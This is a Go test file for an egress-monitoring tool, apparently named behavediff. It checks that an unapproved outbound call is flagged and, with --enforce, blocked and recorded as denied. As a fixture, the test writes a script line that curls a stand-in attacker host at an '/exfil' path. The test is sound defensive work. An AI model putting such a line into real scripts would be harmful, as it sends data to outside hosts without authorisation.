package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/behavediff/behavediff/diff"
	"github.com/behavediff/behavediff/recorder/egress/upstream"
)

// TestScenarioEgressEnforce: a spec whose approved run called api.test:8443
// through the proxy replays clean; a variant that also calls evil.test:8443
// (allowed by the spec, so it goes through) fails check with a high egress
// finding; with --enforce the baseline is the allow-list, so the call is
// blocked before it leaves the sandbox, recorded denied, and check fails.
func TestScenarioEgressEnforce(t *testing.T) {
	requireRoot(t)
	testenv := upstream.Start(t, "api.test", "evil.test")
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, ".behavediff"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Chdir(dir)
	write := func(name, content string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("ca.pem", string(testenv.CAPEM))
	const good = "curl -sS --cacert ca.pem https://api.test:8443/api\n"
	write("app.sh", good)
	a := testenv.Addr.String()
	code, _, stderr := runCLI(t, "record", "--name", "app", "--allow", "api.test:8443", "--allow", "evil.test:8443",
		"--add-host", "api.test:"+a, "--add-host", "evil.test:"+a, "--", "/bin/sh", "app.sh")
	if code != 0 {
		t.Fatalf("record: exit %d: %s", code, stderr)
	}
	if code, out, stderr := runCLI(t, "approve", "--yes", "app"); code != 0 {
		t.Fatalf("approve: exit %d: %s %s", code, out, stderr)
	}
	if code, out, stderr := runCLI(t, "policy", "app"); code != 0 || out != "api.test:8443\n" {
		t.Errorf("policy app: exit %d, allow-list %q (stderr %s)", code, out, stderr)
	}

	if code, r := checkJSON(t); code != exitOK || len(r.Specs[0].Findings) != 0 {
		t.Fatalf("unchanged program: exit %d findings %+v", code, r.Specs[0].Findings)
	}

	write("app.sh", good+"curl -sS --cacert ca.pem https://evil.test:8443/exfil\n")
	evilHits := func() int {
		n := 0
		for _, h := range testenv.Hits() {
			if strings.HasPrefix(h.Host, "evil.test") {
				n++
			}
		}
		return n
	}
	egressFinding := func(r diff.Report) *diff.Finding {
		for i, f := range r.Specs[0].Findings {
			if f.Kind == "egress" && strings.Contains(f.Subject, "evil.test:8443") {
				return &r.Specs[0].Findings[i]
			}
		}
		return nil
	}
	code, r := checkJSON(t)
	if f := egressFinding(r); code != exitFindings || f == nil || f.Level != diff.High {
		t.Fatalf("variant: exit %d, evil.test finding %+v; all %+v", code, f, r.Specs[0].Findings)
	}
	if evilHits() != 1 {
		t.Fatalf("without --enforce the spec allows evil.test: want 1 hit, got %d", evilHits())
	}

	code, out, stderr := runCLI(t, "check", "--enforce", "--format", "json")
	if err := json.Unmarshal([]byte(out), &r); err != nil || code != exitFindings {
		t.Fatalf("check --enforce: exit %d (%v): %s %s", code, err, out, stderr)
	}
	if f := egressFinding(r); f == nil || f.Level != diff.High || !strings.Contains(f.Reason, "fail") {
		t.Errorf("check --enforce: evil.test finding %+v, want high, failed attempt; all %+v", f, r.Specs[0].Findings)
	}
	// The finding's query hint lists the denied request.
	if f := egressFinding(r); f != nil {
		q := strings.TrimSuffix(strings.TrimPrefix(f.Query, `behavediff query "`), `"`)
		if code, out, stderr := runCLI(t, "query", "--format", "csv", q); code != 0 || !strings.Contains(out, "/usr/bin/curl,connect,evil.test,8443,,not in the approved baseline") {
			t.Errorf("query hint %s: exit %d\n%s%s", f.Query, code, out, stderr)
		}
	}
	if n := evilHits(); n != 1 {
		t.Errorf("check --enforce let the call through (%d hits)", n)
	}
	code, out, _ = runCLI(t, "query", "--format", "csv",
		"SELECT host, decision, reason FROM proxy_requests WHERE run_id = (SELECT max(id) FROM runs) AND protocol = 'connect' ORDER BY ts")
	if code != 0 || !strings.Contains(out, "api.test,allowed,") || !strings.Contains(out, "evil.test,denied,not in the approved baseline (--enforce)") {
		t.Errorf("enforced run's requests:\n%s", out)
	}
	code, r = checkJSON(t) // and without --enforce the finding is the same subject
	if egressFinding(r) == nil || code != exitFindings {
		t.Errorf("exit %d findings %+v", code, r.Specs[0].Findings)
	}
}
